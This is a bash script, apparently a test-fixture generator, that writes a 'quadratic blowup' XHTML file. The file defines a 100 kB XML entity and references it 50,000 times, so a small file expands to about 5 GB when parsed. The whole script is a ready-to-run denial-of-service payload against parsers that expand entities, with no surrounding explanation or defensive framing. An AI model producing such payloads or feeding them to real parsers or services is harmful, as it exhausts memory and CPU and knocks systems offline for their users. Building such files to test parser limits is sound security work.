#!/usr/bin/env bash
# make-quadratic.sh - writes quadratic.xhtml: the "quadratic blowup", one
# 100 kB entity referenced 50000 times (5 GB of text from a 300 kB file).
{
  printf '<?xml version="1.0" encoding="UTF-8"?>\n<!DOCTYPE html [\n<!ENTITY big "'
  head -c 100000 /dev/zero | tr '\0' x
  printf '">\n]>\n<html xmlns="http://www.w3.org/1999/xhtml" lang="en">\n<body>\n<p>'
  i=0
  while [ $i -lt 500 ]; do
    printf '&big;&big;&big;&big;&big;&big;&big;&big;&big;&big;&big;&big;&big;&big;&big;&big;&big;&big;&big;&big;&big;&big;&big;&big;&big;&big;&big;&big;&big;&big;&big;&big;&big;&big;&big;&big;&big;&big;&big;&big;&big;&big;&big;&big;&big;&big;&big;&big;&big;&big;&big;&big;&big;&big;&big;&big;&big;&big;&big;&big;&big;&big;&big;&big;&big;&big;&big;&big;&big;&big;&big;&big;&big;&big;&big;&big;&big;&big;&big;&big;&big;&big;&big;&big;&big;&big;&big;&big;&big;&big;&big;&big;&big;&big;&big;&big;&big;&big;&big;&big;'
    i=$((i + 1))
  done
  printf '</p>\n</body>\n</html>\n'
} >quadratic.xhtml
